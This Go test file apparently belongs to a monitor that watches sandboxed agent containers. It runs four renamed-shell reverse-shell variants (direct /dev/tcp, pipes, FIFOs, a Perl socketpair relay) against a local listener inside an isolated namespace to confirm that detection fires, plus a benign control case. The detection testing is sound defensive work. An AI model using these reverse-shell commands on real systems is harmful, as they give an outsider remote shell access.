package daemon

import (
	"strings"
	"testing"

	"github.com/code-on-incus/coi/cmd/coi-watch/internal/engine"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/program"
	"github.com/code-on-incus/coi/pkg/coi"
	"github.com/code-on-incus/coi/pkg/run"
)

// realNames is package program as the sensors ask it.
type realNames struct{}

func (realNames) ClassOf(name string) string   { return string(program.ClassOf(name)) }
func (realNames) Canonical(name string) string { return program.Canonical(name) }
func (realNames) Known() []string              { return append(program.Names(program.Shell), "perl", "cat") }

// outside is a small container: a root, a pid namespace and a network of its
// own, in which a listener waits on an address that is not loopback. The attack
// is run there with a renamed shell beside it.
const outside = `R=$DIR/root; mkdir -p $R; unshare -mpfn bash -c '
mount -t tmpfs none $0; cd $0; mkdir usr etc dev proc tmp ws; ln -s usr/bin bin; ln -s usr/lib lib; ln -s usr/lib64 lib64; ln -s usr/sbin sbin
for d in usr etc dev; do mount --rbind /$d $d; done; mount -t proc proc proc; mount --bind $1 ws; cp /bin/bash ws/worker
ip link set lo up; ip addr add 198.51.100.7/32 dev lo
exec chroot $0 /bin/bash /ws/init' $R $DIR`

const initScript = `cd /ws; PATH=/usr/bin:/bin
perl -e 'use IO::Socket::INET; my $l=IO::Socket::INET->new(LocalAddr=>"198.51.100.7",LocalPort=>4242,Listen=>5,ReuseAddr=>1) or die; while(my $c=$l->accept){push @k,$c}' &
until (exec 9<>/dev/tcp/198.51.100.7/4242) 2>/dev/null; do sleep 0.05; done; sleep 1
bash ./attack; sleep 1000`

// R-MON-05, R-MON-10, T-W-03: what counts is how the descriptors lead, in a
// network namespace below the container's, with words taken away: the programs
// are renamed and nothing on the command line tells what they are for.
func TestWiring(t *testing.T) {
	for name, attack := range map[string]string{
		"direct": `exec 5<>/dev/tcp/198.51.100.7/4242; ./worker <&5 >&5 2>&5`,
		"pipes":  `exec 5<>/dev/tcp/198.51.100.7/4242; cat <&5 | ./worker 2>&1 | cat >&5`,
		"fifos":  `exec 5<>/dev/tcp/198.51.100.7/4242; mkfifo a b; ./worker <a >b 2>&1 & cat <&5 >a & cat <b >&5`,
		"unix pair": `cat > go.pl <<X
use Socket; use IO::Socket::INET;
my \$s=IO::Socket::INET->new("198.51.100.7:4242") or die; socketpair(my \$a,my \$b,AF_UNIX,SOCK_STREAM,0);
if(!fork){open STDIN,"<&",\$b;open STDOUT,">&",\$b;open STDERR,">&",\$b;close \$a;close \$s;exec "./worker"}
close \$b; if(!fork){while(sysread \$s,my \$x,99){syswrite \$a,\$x}} while(sysread \$a,my \$x,99){syswrite \$s,\$x}
X
cp /usr/bin/perl ./helper; ./helper go.pl`,
	} {
		t.Run(name, func(t *testing.T) {
			b := newBench(t, "watchd-wire")
			b.stop()
			b.real = func(c engine.Config) Judge { return engine.New(c) }
			b.start()
			b.create()
			b.want(func(w *run.Watch) { w.Settings.AutoKillOnCritical = false })
			dir := t.TempDir()
			write(t, dir+"/attack", attack)
			write(t, dir+"/init", initScript)
			b.enter("DIR=" + dir + "; " + outside)
			s := b.status("frozen", func(s run.WatchStatus) bool { return s.Frozen != nil })
			found := ""
			b.trail.mu.Lock()
			for _, r := range b.trail.records {
				if r.Level.Rank() >= coi.High.Rank() {
					found += " " + r.Rule
				}
			}
			b.trail.mu.Unlock()
			if !strings.Contains(found, "shell.net") {
				t.Errorf("frozen by%s (%s); want a wiring rule", found, s.FrozenTitle)
			}
		})
	}
}

// The same streams without an outside end: an agent at work.
func TestHonestWiring(t *testing.T) {
	b := newBench(t, "watchd-fair")
	b.stop()
	b.real = func(c engine.Config) Judge { return engine.New(c) }
	b.start()
	b.create()
	b.want(nil)
	dir := t.TempDir()
	write(t, dir+"/attack", `mkfifo a; (echo 'echo hello' | ./worker | cat > a) & cat a; ./worker -c 'exec 5<>/dev/tcp/198.51.100.7/4242; echo x >&5'; (echo ls; sleep 2) | ./worker >/dev/null; touch done`)
	write(t, dir+"/init", initScript)
	b.enter("DIR=" + dir + "; " + outside)
	eventually(t, "the end", func() bool {
		if s := b.status("status", func(run.WatchStatus) bool { return true }); s.Frozen != nil {
			t.Fatalf("frozen: %s", s.FrozenTitle)
		}
		return exists(dir + "/done")
	})
}
